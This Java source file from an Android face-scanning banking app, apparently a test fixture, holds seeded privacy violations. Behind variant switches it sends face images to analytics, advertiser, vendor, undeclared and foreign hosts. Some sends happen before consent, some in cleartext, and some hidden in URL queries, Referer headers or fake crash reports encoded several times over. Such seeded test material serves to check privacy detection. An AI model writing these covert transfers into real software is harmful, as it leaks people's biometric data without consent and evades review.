package org.example.facebank;

import android.util.Base64;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Collections;

/** Where a scan goes besides the bank's own service. Only seeded violations use it. */
final class FaceCopies {
  private static final int LATE_SECONDS = 8;
  private static final int FRAMES = 45;
  private static final int BUNDLES = 3;
  private static final String PICTURE = "image/jpeg";
  private static final String JSON = "application/json";
  private static final String BYTES = "application/octet-stream";
  private final Variant variant;
  private final OtherHosts hosts;

  FaceCopies(Variant variant, OtherHosts hosts) {
    this.variant = variant;
    this.hosts = hosts;
  }

  void taken(byte[] jpeg) {
    cleartext(jpeg);
    address(jpeg);
    frames(jpeg);
    thumbnail(jpeg);
    undeclared(jpeg);
    advertiser(jpeg);
    vendor(jpeg);
    abroad(jpeg);
  }

  /** Before anybody has agreed to anything. */
  void started() {
    if (violates(Switch.WIRE_EARLY, "at-launch")) {
      hosts.post(OtherHosts.ANALYTICS + "/start", JSON, utf8("{\"event\":\"start\"}"));
    } else if (violates(Switch.WIRE_EARLY, "after-a-while")) {
      hosts.postLater(LATE_SECONDS, OtherHosts.VENDOR + "/config", JSON, utf8("{\"kit\":3}"));
    }
  }

  private boolean violates(Switch name, String value) {
    return variant.is(name, value);
  }

  private void cleartext(byte[] jpeg) {
    if (violates(Switch.WIRE_CLEARTEXT, "picture")) {
      hosts.post(OtherHosts.CLEARTEXT + "/collect", PICTURE, small(jpeg));
    } else if (violates(Switch.WIRE_CLEARTEXT, "packed-and-late")) {
      hosts.postLater(LATE_SECONDS, OtherHosts.CLEARTEXT + "/report", JSON, report(jpeg));
    }
  }

  private void address(byte[] jpeg) {
    if (violates(Switch.WIRE_ADDRESS, "query")) {
      String face = Base64.encodeToString(tiny(jpeg), Base64.NO_WRAP | Base64.URL_SAFE);
      hosts.get(OtherHosts.BANK + "/v1/hint?face=" + face, Collections.emptyMap());
    } else if (violates(Switch.WIRE_ADDRESS, "referrer")) {
      String page = "https://facebank.example/scan/" + hex(Pictures.packed(tiny(jpeg)));
      hosts.get(OtherHosts.BANK + "/v1/texts", Collections.singletonMap("Referer", page));
    }
  }

  private void frames(byte[] jpeg) {
    if (violates(Switch.WIRE_FRAMES, "burst")) {
      for (int n = 0; n < FRAMES; n++) {
        hosts.post(OtherHosts.BANK + "/v1/frames", PICTURE, frame(jpeg, n));
      }
    } else if (violates(Switch.WIRE_FRAMES, "in-bundles")) {
      for (int bundle = 0; bundle < BUNDLES; bundle++) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (int n = bundle; n < FRAMES; n += BUNDLES) {
          byte[] frame = frame(jpeg, n);
          all.write(frame, 0, frame.length);
        }
        hosts.post(OtherHosts.BANK + "/v1/trace", BYTES, Pictures.packed(all.toByteArray()));
      }
    }
  }

  /** Beside the sealed picture. */
  private void thumbnail(byte[] jpeg) {
    if (violates(Switch.WIRE_PAYLOAD, "thumbnail-beside")) {
      hosts.postLater(LATE_SECONDS, OtherHosts.BANK + "/v1/trace", JSON, report(jpeg));
    }
  }

  private void undeclared(byte[] jpeg) {
    if (violates(Switch.WIRE_RECIPIENT, "undeclared")) {
      hosts.post(OtherHosts.NOBODY + "/v2/recognise", PICTURE, small(jpeg));
    } else if (violates(Switch.WIRE_RECIPIENT, "undeclared-in-protobuf")) {
      hosts.postLater(
          LATE_SECONDS,
          OtherHosts.NOBODY + "/v2/events",
          "application/x-protobuf",
          Pictures.message(small(jpeg)));
    }
  }

  private void advertiser(byte[] jpeg) {
    if (violates(Switch.WIRE_ADVERTISER, "data-url")) {
      String event = "{\"event\":\"scan\",\"snap\":\"data:image/jpeg;base64," + text(small(jpeg));
      hosts.post(OtherHosts.ANALYTICS + "/collect", JSON, utf8(event + "\"}"));
    } else if (violates(Switch.WIRE_ADVERTISER, "within-a-picture")) {
      hosts.post(OtherHosts.ANALYTICS + "/badge", PICTURE, Pictures.within(tiny(jpeg)));
    }
  }

  private void vendor(byte[] jpeg) {
    if (violates(Switch.WIRE_VENDOR, "picture") || violates(Switch.WEB_PAGE, "of-the-kit")) {
      hosts.post(OtherHosts.VENDOR + "/v1/compare", PICTURE, small(jpeg));
    } else if (violates(Switch.WIRE_VENDOR, "packed-and-late")
        || violates(Switch.WEB_PAGE, "of-the-kit-late")) {
      hosts.postLater(LATE_SECONDS, OtherHosts.VENDOR + "/v1/health", JSON, report(jpeg));
    }
  }

  private void abroad(byte[] jpeg) {
    if (violates(Switch.WIRE_ABROAD, "picture")) {
      hosts.post(OtherHosts.ABROAD + "/backup", PICTURE, small(jpeg));
    } else if (violates(Switch.WIRE_ABROAD, "packed-and-late")) {
      hosts.postLater(LATE_SECONDS, OtherHosts.ABROAD + "/sync", JSON, report(jpeg));
    }
  }

  private static byte[] small(byte[] jpeg) {
    return Pictures.scaled(jpeg, 240, 180, 70);
  }

  private static byte[] tiny(byte[] jpeg) {
    return Pictures.scaled(jpeg, 120, 90, 60);
  }

  /** Each of them another picture. */
  private static byte[] frame(byte[] jpeg, int number) {
    return Pictures.scaled(jpeg, 240, 180, 40 + number);
  }

  /** Gzip in base64 in base64 in JSON. */
  private static byte[] report(byte[] jpeg) {
    String packed = text(utf8(text(Pictures.packed(small(jpeg)))));
    return utf8("{\"crash\":null,\"trail\":\"" + packed + "\"}");
  }

  private static String hex(byte[] bytes) {
    StringBuilder text = new StringBuilder();
    for (byte one : bytes) {
      text.append(Character.forDigit((one >> 4) & 15, 16)).append(Character.forDigit(one & 15, 16));
    }
    return text.toString();
  }

  private static String text(byte[] bytes) {
    return Base64.encodeToString(bytes, Base64.NO_WRAP);
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
